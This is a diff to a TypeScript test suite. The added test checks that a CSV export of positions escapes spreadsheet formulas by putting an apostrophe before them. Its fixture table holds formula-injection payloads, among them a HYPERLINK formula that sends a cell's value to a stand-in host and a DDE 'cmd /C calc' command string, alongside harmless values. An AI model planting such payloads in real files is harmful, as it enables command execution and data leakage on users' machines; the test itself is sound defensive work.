@@ -50,6 +50,29 @@ async function written(name: FormatName, rows: Position[], form?: CsvForm): Prom
   return (await bytesOf(POSITIONS, name, rows, form)).toString()
 }
 
+/** Texts that a spreadsheet would run, or would split into cells that it runs, and their harmless forms. */
+const FORMULAS = {
+  '=HYPERLINK("http://x/"&A1)': '\'=HYPERLINK("http://x/"&A1)',
+  '+1+1': "'+1+1",
+  "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+  '@SUM(1)': "'@SUM(1)",
+  '\t=1+1': "'\t'=1+1",
+  '\rx': "'\rx",
+  ' =1+1': " '=1+1",
+  '\u200b=1+1': "\u200b'=1+1",
+  '＝1+1': "'＝1+1",
+  '＋1': "'＋1",
+  '－1': "'－1",
+  '＠x': "'＠x",
+  '"=1+1': '"\'=1+1',
+  // If the list separator of the machine is a semicolon or a tab, quotes do not protect.
+  'x;=1+1;y': "x;'=1+1;y",
+  'x;"=1+1': 'x;"\'=1+1',
+  'x\n=1+1': "x\n'=1+1",
+  'x\t\t=1+1': "x\t\t'=1+1",
+}
+const HARMLESS = ['', 'Van 3', '3-5', 'a=b', 'x,=1', "'=1+1", 'Main St 5; Porto', '−1', 'ÿ']
+
 describe('A file of positions', () => {
   it('has the API’s own rows in NDJSON, one a line', async () => {
     await fc.assert(
@@ -81,6 +104,17 @@ describe('A file of positions', () => {
           expected,
         )
       }),
+    )
+  })
+
+  it('has an apostrophe in CSV before each text that a spreadsheet would run', async () => {
+    const [row] = fc.sample(position, 1)
+    const texts = [...Object.keys(FORMULAS), ...HARMLESS]
+    const rows = texts.map((each) => ({ ...row!, ident: each, name: each, address: each }))
+    const read = parse(await written('csv', rows), { columns: true, record_delimiter: '\n' })
+    assert.deepEqual(
+      (read as Position[]).map(({ ident, name, address }) => [ident, name, address]),
+      [...Object.values(FORMULAS), ...HARMLESS].map((each) => [each, each, each]),
     )
   })
 
